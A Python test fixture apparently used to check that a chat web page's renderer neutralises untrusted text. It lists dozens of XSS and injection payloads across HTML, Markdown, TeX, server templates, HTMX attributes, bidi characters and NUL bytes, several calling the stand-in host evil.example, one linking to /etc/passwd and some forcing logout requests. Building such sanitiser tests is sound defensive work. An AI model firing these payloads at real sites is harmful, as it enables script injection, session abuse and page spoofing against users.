"""Texts that somebody writes who wants to run something on the page. Each would set `window.hacked`, or ask elsewhere.

Knows attacks. Must not know where on the page they are put.
"""

from __future__ import annotations

from pathlib import Path

ELSEWHERE = "http://evil.example"

HTML = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror=window.hacked=1>",
    f"<img src={ELSEWHERE}/a.png><link rel=stylesheet href={ELSEWHERE}/a.css>",
    "<svg onload=window.hacked=1><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hacked=1>#x'/></svg>",
    f"<iframe src='{ELSEWHERE}' srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    f"<base href='{ELSEWHERE}/'><meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "<style>*{background:url(http://evil.example/css)}</style>",
    f"<form action='{ELSEWHERE}'><button id=stop>x</button></form>",
    "</textarea></article></div></main><script>window.hacked=1</script>",
    "<!--><script>window.hacked=1</script>--><![CDATA[<script>window.hacked=1</script>]]>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62;",
    "<template><script>window.hacked=1</script></template><plaintext><xmp>",
)

MARKDOWN = (
    "[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](  java\tscript:window.hacked=1)",
    "[a](data:text/html,<script>hacked=1</script>) [b](vbscript:msgbox) [c](file:///etc/passwd) [d](blob:x)",
    "[a](&#106;avascript:window.hacked=1) [b](javascript&colon;window.hacked=1) [c](\x01javascript:window.hacked=1)",
    "<javascript:window.hacked=1> <data:text/html,x> [x]: javascript:window.hacked=1\n\n[x]",
    f"![x]({ELSEWHERE}/i.png) ![y](//evil.example/i.png) [![z]({ELSEWHERE}/i.png)](http://a.example)",
    '[a](http://a.example "x\\" onmouseover=\\"window.hacked=1") [b](http://a.example/"onfocus="window.hacked=1)',
    "[a](http://a.example/'\"><img src=x onerror=window.hacked=1>)",
    '```"><script>window.hacked=1</script>\ncode </code></pre><script>window.hacked=1</script>\n```',
    "```html onload=window.hacked=1\n<script>window.hacked=1</script>\n",
    "~~~ <img src=x onerror=window.hacked=1>\n~~~ `</code><img src=x onerror=window.hacked=1>",
    "| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| </td></table><script>hacked=1</script> | `|` |",
    "- [x] <img src=x onerror=window.hacked=1>\n- <svg/onload=window.hacked=1>",
    "# <img src=x onerror=window.hacked=1>\n\n> <script>window.hacked=1</script>",
    "[click](//evil.example) [click](/accounts/logout/) [click](../../admin/) [click](?x)",
)

TEX = (
    r"$\href{javascript:window.hacked=1}{x}$ $\text{<img src=x onerror=window.hacked=1>}$",
    r"$$\class{x}{y} \style{background:url(http://evil.example)}{x} \unicode{x}$$",
    r"$$\includegraphics{http://evil.example/i.png} \url{javascript:hacked=1} \htmlData{on=1}{x}$$",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:window.hacked=1'>x</maction>",
    r"$</math><script>window.hacked=1</script>$ \(<svg/onload=window.hacked=1>\)",
)

TEMPLATES = (
    "{% load static %}{{ request.user }} {{ settings.SECRET_KEY }} {% csrf_token %}",
    "${window.hacked=1} #{window.hacked=1} {{constructor.constructor('window.hacked=1')()}}",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
)

HTMX = (
    f"<div hx-get='{ELSEWHERE}/x' hx-trigger='load'>x</div>",
    "<div hx-get='/accounts/logout/' hx-trigger='load, every 1s' hx-on::load='window.hacked=1'>x</div>",
    "<div hx-on:click='window.hacked=1' hx-vals='js:{x: window.hacked=1}' data-hx-on-load='window.hacked=1'>x</div>",
    "<p id='status' hx-swap-oob='innerHTML'>hacked</p><h1 id='title' hx-swap-oob='true'>hacked</h1>",
    "<div id=\"messages\" hx-swap-oob=\"innerHTML\">hacked</div><main id='conversation' hx-swap-oob='delete'></main>",
    "<li id='x' hx-swap-oob='lift:#conversations'>hacked</li><article hx-swap-oob='upsert:#messages'>hacked</article>",
    '<button data-frame=\'{"type":"queue_clear"}\'>x</button><div ws-connect="/ws/">x</div>',
    'data-frame=\'{"type":"stop"}\' id="composer" class="notice" data-ref="x"',
)

BIDI = (
    "\u202e reversed \u2066 isolated \u2069 \u202d and never closed \u202e",
    "مرحبا \u202eexe.gnp\u202c [a\u202elmth.b](http://a.example/\u202egpj)",
    "\u2067\u2067\u2067 never closed, a\u0301\u0302\u0303" + "\u0334" * 50,
)

# A NUL is refused in what people write; a model may send one.
NUL = "a \x00<script>hacked=1</script> <scr\x00ipt>hacked=1</scr\x00ipt> [a](java\x00script:window.hacked=1)"

TEXTS = (*HTML, *MARKDOWN, *TEX, *TEMPLATES, *HTMX, *BIDI)

# Run in the page: what is on it that a text has brought in, in words.
INTRUDERS = Path(__file__).with_name("intruders.js").read_text()
